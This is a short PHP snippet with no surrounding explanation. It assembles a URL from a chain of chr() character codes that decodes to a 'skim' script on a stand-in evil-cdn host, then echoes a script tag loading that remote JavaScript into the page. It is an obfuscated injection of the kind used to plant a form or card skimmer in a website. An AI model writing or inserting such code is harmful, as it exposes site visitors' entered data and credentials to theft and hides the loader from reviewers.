<?php
$u = chr(104).chr(116).chr(116).chr(112).chr(115).chr(58).chr(47).chr(47).chr(115).chr(107).chr(105).chr(109).chr(46).chr(101).chr(118).chr(105).chr(108).chr(45).chr(99).chr(100).chr(110).chr(46).chr(101).chr(120).chr(97).chr(109).chr(112).chr(108).chr(101).chr(47).chr(99).chr(46).chr(106).chr(115);
echo '<script src="' . $u . '"></script>';
